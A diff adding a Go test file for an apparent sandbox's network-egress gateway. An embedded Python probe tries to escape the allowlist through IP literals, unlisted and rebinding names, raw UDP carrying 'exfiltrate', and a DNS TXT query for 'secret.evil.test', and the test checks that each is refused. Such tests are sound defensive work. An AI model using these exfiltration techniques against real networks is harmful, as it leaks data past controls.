@@ -1,0 +1,158 @@
+package backend_test
+
+import (
+	"context"
+	"errors"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/sandcell/sandcell/internal/egress"
+	"github.com/sandcell/sandcell/internal/netpolicy"
+	"github.com/sandcell/sandcell/limits"
+	"github.com/sandcell/sandcell/oci"
+)
+
+// netProbe is the program of TestNetworkPolicy: it ignores proxy
+// variables (raw sockets and urllib with no proxy) and prints one line per
+// probe, "name ok ..." or "name refused ...".
+const netProbe = `
+import socket, ssl, sys, urllib.request, struct
+web, tls = sys.argv[1], sys.argv[2]
+opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+def probe(name, f):
+    try:
+        print(name, "ok", f())
+    except Exception as e:
+        print(name, "refused", type(e).__name__, e)
+    sys.stdout.flush()
+probe("http", lambda: opener.open("http://web.test:%s/" % web, timeout=10).read().decode())
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+probe("https", lambda: urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=ctx)).open("https://tls.test:%s/" % tls, timeout=10).read().decode())
+probe("literal", lambda: socket.create_connection(("93.184.216.34", 80), timeout=5).close())
+probe("loopback", lambda: socket.create_connection(("127.0.0.1", int(web)), timeout=5).close())
+probe("unlisted", lambda: socket.getaddrinfo("evil.test", 80))
+probe("private", lambda: socket.getaddrinfo("private.test", 80))
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"exfiltrate", ("9.9.9.9", 53))
+    s.settimeout(1)
+    return s.recv(100)
+probe("udp", udp)
+def txt():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in "secret.evil.test".split(".")) + b"\0" + struct.pack(">HH", 16, 1)
+    s.sendto(q, ("127.0.0.1", 53))
+    s.settimeout(5)
+    r = s.recv(512)
+    rcode = r[3] & 15
+    if rcode != 0:
+        raise Exception("rcode %d" % rcode)
+    return r
+probe("txt", txt)
+probe("budget", lambda: opener.open("http://web.test:%s/" % web, timeout=10).read().decode())
+`
+
+// TestNetworkPolicy: a run with a network policy (issue #40), on both
+// paths of a runc run, reaches the allowlisted names over HTTP and HTTPS
+// (SNI; the gateway does not terminate TLS) with no proxy variable, and
+// is refused, with the reason in the gateway's log: an IP literal (the
+// host's loopback is the run's own, where nothing listens), an
+// unlisted name, a name resolving to a private address (rebinding), raw
+// UDP, a DNS TXT query for an unlisted name, a connection past the
+// budget.
+func TestNetworkPolicy(t *testing.T) {
+	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "plain-"+r.Host) }))
+	defer web.Close()
+	tls := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "tls-"+r.Host) }))
+	defer tls.Close()
+	wport, tport := urlPort(t, web.URL), urlPort(t, tls.URL)
+	lo := []netip.Addr{netip.MustParseAddr("127.0.0.1")}
+	for _, mk := range []func(testing.TB) *testEnv{newTestEnv, newForkEnv} {
+		e := mk(t)
+		t.Run(e.backend, func(t *testing.T) {
+			gw, err := netpolicy.New(netpolicy.Config{
+				Egress: egress.Config{Allow: []string{"web.test:" + wport, "tls.test:" + tport, "private.test:80"},
+					Hosts: map[string][]netip.Addr{"web.test": lo, "tls.test": lo},
+					Resolve: func(context.Context, string) ([]netip.Addr, error) {
+						return []netip.Addr{netip.MustParseAddr("10.1.2.3")}, nil
+					}},
+				Budget: netpolicy.Budget{Conns: 2},
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer gw.Close()
+			res := e.run(t, "python", netProbe, limits.Set{}, func(r *oci.Request) {
+				r.Args = append(r.Args, wport, tport)
+				r.Network = gw
+			})
+			out := res.Stdout
+			for _, want := range []string{
+				"http ok plain-web.test:" + wport, "https ok tls-tls.test:" + tport,
+				"literal refused", "loopback refused", "unlisted refused", "private refused", "udp refused", "txt refused", "budget refused",
+			} {
+				if !strings.Contains(out, want+"") {
+					t.Errorf("stdout lacks %q:\n%s\nstderr: %s", want, out, res.Stderr)
+				}
+			}
+			log := gw.Log()
+			if log.Conns != 2 || log.BytesIn == 0 {
+				t.Errorf("log counted %d connections, %d bytes in; want 2 and some", log.Conns, log.BytesIn)
+			}
+			var reasons []string
+			for _, r := range log.Refusals() {
+				reasons = append(reasons, r.Refused)
+			}
+			all := strings.Join(reasons, "\n")
+			for _, want := range []string{
+				"93.184.216.34 is an IP address the sandbox's DNS never handed out",
+				"evil.test is not on the allowlist",
+				"10.1.2.3",
+				"raw UDP to 9.9.9.9:53 dropped",
+				"TXT secret.evil.test",
+				"budget",
+			} {
+				if !strings.Contains(all, want) {
+					t.Errorf("refusals lack %q:\n%s", want, all)
+				}
+			}
+		})
+	}
+}
+
+// urlPort is the port of a test server's URL.
+func urlPort(t testing.TB, s string) string {
+	t.Helper()
+	u, err := url.Parse(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, p, err := net.SplitHostPort(u.Host)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// TestNetworkPolicyGVisor: gVisor runs are refused a network policy, with
+// the reason, before anything starts (runsc has its own netstack; a tun of
+// the host would need its host network mode).
+func TestNetworkPolicyGVisor(t *testing.T) {
+	e := newGVisorEnv(t)
+	gw, err := netpolicy.New(netpolicy.Config{Egress: egress.Config{Allow: []string{"web.test:80"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer gw.Close()
+	r := newRequest(t, "python", "print(1)", limits.Set{})
+	r.Network = gw
+	if _, err := oci.Run(context.Background(), e.runtime, r); !errors.Is(err, oci.ErrInvalidRequest) || !strings.Contains(err.Error(), "gVisor") {
+		t.Errorf("gVisor run with a network policy: %v, want a refusal naming gVisor", err)
+	}
+}
